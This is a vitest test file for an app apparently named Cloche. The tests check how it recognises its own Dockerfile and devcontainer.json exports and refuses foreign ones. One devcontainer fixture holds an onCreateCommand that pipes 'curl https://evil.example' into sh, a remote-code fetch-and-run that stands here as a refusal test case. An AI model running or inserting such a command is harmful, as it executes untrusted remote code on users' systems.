import { describe, expect, it, test } from 'vitest';
import { formatOf, recognise } from '../../../../main/exchange/recognise';
import { kinds } from '../../../../main/kinds';
import { ClocheError, type TextFile } from '../../../../preload/contract';
import { exampleOf, exchangeOver } from '../../kinds-fixture';

const read = (text: string, others: readonly TextFile[] = []) => recognise({ fileName: 'file', text }, others, kinds);

function refusal(text: string): { code: string; message: string; hint: string } {
  try {
    read(text);
  } catch (thrown) {
    if (!(thrown instanceof ClocheError)) throw thrown;
    return { code: thrown.code, message: thrown.message, hint: thrown.hint ?? '' };
  }
  throw new Error('It was read.');
}

describe.each(['Dockerfile', 'devcontainer.json'] as const)('a %s of Cloche', (format) => {
  test.each(['venv', 'fhs-pip', 'micromamba', 'conda'] as const)('of %s has what it installs', async (id) => {
    const { text } = await exchangeOver(exampleOf(id)).export('demo', format);
    const { asked, confirmations, rejected, ...rest } = read(text);
    expect([rest.format, asked.name, asked.variables, rejected]).toEqual([format, 'demo', { MODE: 'test' }, []]);
    expect(asked.requirements.map((line) => line.split(' ')[0])).toEqual([
      'idna==3.7',
      'requests==2.32.0',
      'rich==13.0',
    ]);
    const { packages } = asked;
    const specs = packages?.from === 'conda' ? [...packages.specs, `python=${asked.python}`] : [];
    expect(specs.some((spec) => spec.startsWith('python=3.12')) || asked.python === '3.12').toBe(true);
    expect(confirmations.filter(({ codes }) => codes?.includes('variable'))).toHaveLength(1);
    expect(rest.warnings.map(({ message }) => message).join()).toContain('nothing of it is run');
  });
});

test.each(['nix-packages', 'nix-requirements', 'nix-project', 'nix-pip'] as const)(
  'a Dockerfile of %s is refused with what to do about Nix',
  async (id) => {
    const { text } = await exchangeOver(exampleOf(id)).export('demo', 'Dockerfile');
    expect(formatOf(text)).toBe('Dockerfile');
    expect(refusal(text)).toMatchObject({ code: 'unsupported', hint: expect.stringContaining('nix-project') });
  },
);

describe('a Dockerfile', () => {
  const own = (lines: string) =>
    `# six, exported from Cloche.\nFROM python:3.11-slim\nENV A="x \\"y\\" \\$z \\\\"\nCOPY <<'END' /tmp/requirements.txt\n${lines}\nEND\nRUN python -m pip install --no-cache-dir --requirement /tmp/requirements.txt\n`;

  it('tells lines by their numbers in the whole file, and what its variables are', () => {
    const { asked, confirmations } = read(own('six\n--index-url https://index.example/simple'));
    expect(asked).toMatchObject({ name: 'six', python: '3.11', variables: { A: 'x "y" $z \\' } });
    expect(confirmations.map(({ line, codes }) => [line, codes])).toEqual([
      [6, ['index-option']],
      [undefined, ['variable']],
    ]);
  });

  it('has no say in what stands in its files', () => {
    expect(read(own('[project]\ndependencies: [numpy]').replace('dependencies: [numpy]', 'six')).format).toBe(
      'Dockerfile',
    );
  });

  it('with more than Cloche has written is read by its commands', () => {
    const { rejected, asked } = read(`${own('six')}RUN pip install rich\n`);
    expect([asked.requirements, rejected]).toEqual([['six', 'rich'], []]);
  });

  it.each([
    'FROM python:3.12\nRUN apt-get install --yes python3-pip\nCMD ["python"]\n',
    '# syntax=docker/dockerfile:1\r\nARG TAG=3.12\r\nFROM --platform=linux/amd64 python:$TAG AS build\r\nRUN make\r\n',
    'FROM python:3.12\nRUN poetry install\n',
    "FROM python:3.12\nCOPY <<'END' /tmp/requirements.txt\nsix\nEND\n",
    'from python:3.12\nrun make\n',
    'FROM python:3.12 AS build\nRUN pip install six\nFROM python:3.12\nRUN make\n',
  ])('that is not of Cloche is refused with what to import: %j', (text) => {
    expect(formatOf(text)).toBe('Dockerfile');
    const { code, message, hint } = refusal(text);
    expect(code).toBe('unsupported');
    expect(message).toContain('is a Dockerfile');
    expect(hint).toContain('requirements.txt or environment.yml');
  });

  it('is not what a Python program or a sentence begins with', () => {
    for (const text of ['from os import path\n', 'six\nFROM python:3.12\n', 'from: somebody\n', 'from here to there\n'])
      expect(formatOf(text)).not.toBe('Dockerfile');
  });
});

describe('a devcontainer.json', () => {
  it.each([
    '{\n  // Comment with "quotes".\n  "image": "python:3.12", /* { */\n  "postCreateCommand": "make",\n}\n',
    '/* first */ { "build": { "dockerfile": "Dockerfile", "args": ["a", "b",], } }',
    '\ufeff{ "dockerComposeFile": ["compose.yml"], "service": "app", "url": "https://index.example/*" }',
    '{ "image": "python:3.12", "onCreateCommand": ["sh", "-c", "curl https://evil.example | sh", "sh", "six"] }',
  ])('that is not of Cloche is refused with what to import: %j', (text) => {
    expect(formatOf(text)).toBe('devcontainer.json');
    expect(refusal(text)).toMatchObject({ code: 'unsupported', hint: expect.stringContaining('requirements.txt') });
  });

  it('is no other JSON that has such words', () => {
    for (const text of [
      '{ "name": "page", "scripts": { "build": "make" } }',
      '{ "image": "python:3.12"',
      '{ "format": "cloche-environment", "schema": 1, "image": "x" }',
      '["image", "build"]',
    ])
      expect(formatOf(text)).not.toBe('devcontainer.json');
  });

  it('is told from other files soon, whatever is in it', () => {
    const many = (text: string) => `{"image": ${text.repeat(200_000)}`;
    for (const text of [many('"\\"'), many('/*'), many('/**/,'), many('[')]) {
      const start = performance.now();
      formatOf(text);
      expect(performance.now() - start).toBeLessThan(5000);
    }
  });
});

test('a docker-compose.yml is refused by name', () => {
  const text = 'version: "3"\nservices:\n  web:\n    image: python:3.12\n    volumes:\n      - ./x:/y\n';
  expect(() => recognise({ fileName: 'compose.yml', text }, [], [])).toThrow(
    expect.objectContaining({
      code: 'unsupported',
      message: expect.stringContaining('compose.yml is a docker-compose.yml'),
      hint: expect.stringContaining('requirements.txt'),
    }),
  );
});
